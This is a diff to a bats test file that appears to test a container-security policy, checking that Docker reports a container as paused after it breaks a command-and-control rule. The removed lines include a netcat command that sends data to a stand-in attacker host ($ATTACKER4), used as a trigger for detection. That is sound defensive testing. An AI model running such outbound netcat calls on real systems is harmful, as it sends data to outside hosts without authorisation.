@@ -8,9 +8,7 @@ load docker
 
 setup_file() {
   story_open
-  export STORY_RULES=$RULES
   calls_open
-  export CALLS_RULES=$RULES RULES=$STORY_RULES
   docker_story_open
 }
 teardown_file() { story_close; }
@@ -51,8 +49,7 @@ teardown() { docker_story_quiet; }
 @test "Docker knows of a pause and of its end" {
   service "$PAUSE_POLICY"
   protects
-  shop --detach -- sh -c \
-    "echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
+  shop --detach -- sh -c "$VIOLATION"
   event "$C2_RULE" '.bailiff.outcome == "paused"'
   wait_until 10 "Docker to know" docker_says '{{.State.Status}}' paused
   run -0 docker ps --format '{{.Names}} {{.Status}}'
